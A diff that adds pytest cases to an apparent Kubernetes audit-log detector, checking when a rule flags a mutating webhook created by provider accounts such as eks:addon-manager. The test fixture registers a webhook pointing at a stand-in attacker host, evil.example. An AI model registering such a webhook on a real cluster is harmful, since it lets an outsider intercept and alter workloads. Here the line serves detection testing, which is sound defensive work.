@@ -177,3 +177,44 @@ def test_a_broken_rule_file_names_file_and_line_and_leaves_the_others(tmp_path: 
     for _, words in cases.values():
         assert any(words in fault for fault in loaded.faults), (words, loaded.faults)
     assert any("already that of" in fault for fault in loaded.faults)
+
+
+def _approval(user: str) -> dict[str, Any]:
+    """A request that a control plane may make, and nobody else."""
+    on = {"resource": "mutatingwebhookconfigurations", "apiGroup": "admissionregistration.k8s.io", "name": "x"}
+    body = {"webhooks": [{"name": "a.b.c", "clientConfig": {"url": "https://evil.example/m"}}]}
+    return {"verb": "create", "objectRef": on, "user": {"username": user}, "requestObject": body, "auditID": "p"}
+
+
+@pytest.mark.parametrize(
+    ("user", "form", "own"),
+    [
+        ("eks:addon-manager", "eks", True),
+        ("eks:addon-manager", "k8s", False),
+        ("eks:addon-manager", "auto", False),
+        ("eks:addon-manager", "gke", False),
+        ("aksService", "aks", True),
+        ("aksService", "auto", False),
+        ("system:kube-controller-manager", "k8s", True),
+    ],
+)
+def test_a_providers_name_is_its_own_only_where_the_log_is_said_to_be_of_it(
+    tmp_path: Path, user: str, form: str, own: bool
+) -> None:
+    """On a cluster of one's own whoever can sign a client certificate may call himself so."""
+    file = tmp_path / "audit.log"
+    file.write_bytes(line(_approval(user)) + b"\n")
+
+    _, found, _ = _detect(file, form=form)
+
+    assert ("K8S-WEBHOOK-OUTSIDE" not in {one["rule"] for one in found}) is own
+
+
+def test_an_envelope_tells_whose_cluster_it_is_of(tmp_path: Path) -> None:
+    file = tmp_path / "audit.log"
+    wrapped = {"logGroup": "/aws/eks/prod/cluster", "message": line(_approval("eks:addon-manager")).decode()}
+    bare = json.dumps({"message": wrapped["message"]}).encode()
+    for text, own in ((json.dumps(wrapped).encode(), True), (bare, False)):
+        file.write_bytes(text + b"\n")
+        _, found, _ = _detect(file)
+        assert ("K8S-WEBHOOK-OUTSIDE" not in {one["rule"] for one in found}) is own
